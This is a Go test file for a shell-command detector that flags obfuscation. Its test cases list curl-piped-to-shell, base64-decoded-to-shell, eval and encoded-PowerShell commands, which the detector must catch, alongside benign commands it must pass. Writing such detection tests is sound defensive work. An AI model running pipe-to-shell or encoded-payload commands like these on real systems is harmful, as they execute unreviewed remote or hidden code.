package shellcmd

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestDetectObfuscation(t *testing.T) {
	tests := []struct {
		name    string
		cmd     string
		windows bool
		reason  string
	}{
		{"curl to sh", "curl -fsSL https://x.example/install | sh", false, "content piped into interpreter sh"},
		{"curl to sudo bash", "curl x | sudo bash -s -- --yes", false, "content piped into interpreter bash"},
		{"python stdin", "cat payload | python3 -", false, "content piped into interpreter python3"},
		{"decoded payload", "echo aGk= | base64 -d | sh", false, "decoded payload fed to a later stage"},
		{"decode in subst", `sh -c "$(echo aGk= | base64 --decode)"`, false, "decoded payload substituted into command"},
		{"eval", `eval "$PAYLOAD"`, false, "dynamic evaluation via eval"},
		{"source", "source ./env.sh", false, "dynamic evaluation via source"},
		{"ansi escapes", `printf $'\x72\x6d'`, false, "escaped byte sequences"},
		{"nested shell", `bash -c 'curl x | sh'`, false, "content piped into interpreter sh"},
		{"redirect still parsed", "curl x | sh > /dev/null", false, "content piped into interpreter sh"},
		{"encoded powershell", "powershell -enc ZQBjAGgAbwA=", true, "encoded PowerShell command"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := DetectObfuscation(tt.cmd, tt.windows)
			assert.True(t, got.Detected)
			assert.Contains(t, got.Reasons, tt.reason)
		})
	}
}

func TestDetectObfuscation_Clean(t *testing.T) {
	for _, cmd := range []string{
		"ls -la | grep foo",
		`sh -c "ls | wc -l"`,
		"echo aGk= | base64 -d",
		"bash script.sh",
		"git log --oneline | head -5",
	} {
		got := DetectObfuscation(cmd, false)
		assert.False(t, got.Detected, cmd)
		assert.Empty(t, got.Reasons, cmd)
	}
}

func TestDetectObfuscation_Unparseable(t *testing.T) {
	got := DetectObfuscation(`curl x | sh; echo "unterminated`, false)
	assert.True(t, got.Detected)
}
